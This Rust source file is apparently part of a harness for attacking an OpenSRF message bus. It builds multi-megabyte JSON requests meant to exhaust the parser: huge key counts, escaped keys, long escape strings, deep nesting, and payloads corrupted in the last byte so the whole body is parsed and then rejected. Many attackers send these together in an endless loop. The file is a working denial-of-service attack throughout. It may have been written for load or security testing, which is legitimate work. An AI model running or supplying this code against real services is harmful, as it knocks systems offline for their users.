//! Line 1: large messages of every kind, all but the last byte; then all attackers send the last byte together, again and again.

use std::fmt::Write as _;

use super::attack::Party;
use super::messages::frame;

/// Below `bus_message_bytes_max`: a valid one would be relayed.
const BYTES: usize = 7_800_000;
/// As many as 10 MiB take.
const KEYS: usize = 780_000;

/// Distinct keys in the payload; too large for the bus, so that nothing of it is relayed.
pub fn keys(party: &Party) {
    send(party, &keyed("a"));
}

/// The same, with an escape in each key.
pub fn keys_escaped(party: &Party) {
    send(party, &keyed("\\u0061"));
}

/// A string of escaped newlines.
pub fn newlines(party: &Party) {
    send(party, &spoiled(&format!("\"{}\"", "\\n".repeat(4_000_000))));
}

/// Small numbers.
pub fn numbers(party: &Party) {
    send(party, &spoiled(&format!("{}0", "-12.5e1,".repeat(BYTES / 8))));
}

/// One string without an escape.
pub fn string(party: &Party) {
    send(party, &spoiled(&format!("\"{}\"", "x".repeat(BYTES))));
}

/// The same, valid: it is relayed.
pub fn relayed(party: &Party) {
    send(party, &request(&format!("\"{}\"", "x".repeat(BYTES))));
}

/// Arrays and objects in one another, almost as deep as `json_depth_max` allows, again and again.
pub fn deep(party: &Party) {
    let nest = format!("{}0{},", "[{\"a\":".repeat(490), "}]".repeat(490));
    send(party, &spoiled(&format!("{}0", nest.repeat(BYTES / nest.len()))));
}

/// Small objects of three keys.
pub fn objects(party: &Party) {
    const OBJECT: &str = r#"{"a":1,"b":"2","c":null},"#;
    send(party, &spoiled(&format!("{}0", OBJECT.repeat(BYTES / OBJECT.len()))));
}

/// A call whose params are these.
fn request(params: &str) -> String {
    format!(
        r#"{{"service":"opensrf.math","thread":"large","osrf_msg":[{{"__c":"osrfMessage","__p":{{"threadTrace":1,"type":"REQUEST","payload":{{"__c":"osrfMethod","__p":{{"method":"add","params":[{params}]}}}}}}}}]}}"#
    )
}

/// The same with a last byte that makes it no JSON: all of it is walked, and the bus has no part in what that costs.
fn spoiled(params: &str) -> String {
    let mut text = request(params);
    text.pop();
    text.push('x');
    text
}

/// A call with as many keys beside its method as the limits let in, each with that in front of its number.
fn keyed(letter: &str) -> String {
    let count = KEYS.min(10_300_000 / (letter.len() + 12));
    let mut keys = String::with_capacity(11_000_000);
    for key in 0..count {
        write!(keys, r#""{letter}{key:07}":0,"#).expect("a string takes what is written");
    }
    format!(
        r#"{{"service":"opensrf.math","thread":"large","osrf_msg":[{{"__c":"osrfMessage","__p":{{"threadTrace":1,"type":"REQUEST","payload":{{{keys}"__c":"osrfMethod","__p":{{"method":"add","params":[1,2]}}}}}}}}]}}"#
    )
}

fn send(party: &Party, text: &str) {
    let frame = frame(text.as_bytes());
    party.attack_together(move |attacker| {
        let (body, last) = frame.split_at(frame.len() - 1);
        let stream = attacker.connect()?;
        loop {
            attacker.write(&stream, body)?;
            attacker.end_together(&stream, last)?;
            attacker.sent(1);
        }
    });
}
